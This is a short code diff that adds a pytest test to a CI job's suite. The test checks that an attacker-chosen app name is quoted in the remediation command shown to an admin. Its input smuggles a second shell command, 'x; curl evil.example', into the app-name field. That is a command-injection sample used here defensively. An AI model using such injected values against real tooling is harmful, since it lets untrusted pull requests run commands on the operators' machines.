@@ -161,6 +161,10 @@ def test_an_app_that_trusts_nobody_and_one_that_is_not_there_are_told_the_same(
     assert job.run(app=named).error.startswith(f"The app {named} does not trust acme/shop")
 
 
+def test_the_command_that_an_admin_is_told_runs_nothing_that_a_pull_request_named_its_app(job: Job) -> None:
+    assert "--app 'x; curl evil.example' --repository-id" in job.run(app="x; curl evil.example").error
+
+
 @pytest.mark.parametrize("event", ["pull_request_target", "workflow_run", "issue_comment"])
 def test_events_that_run_what_strangers_send_are_refused_with_the_reason(
     job: Job, identities: Issuer, event: str
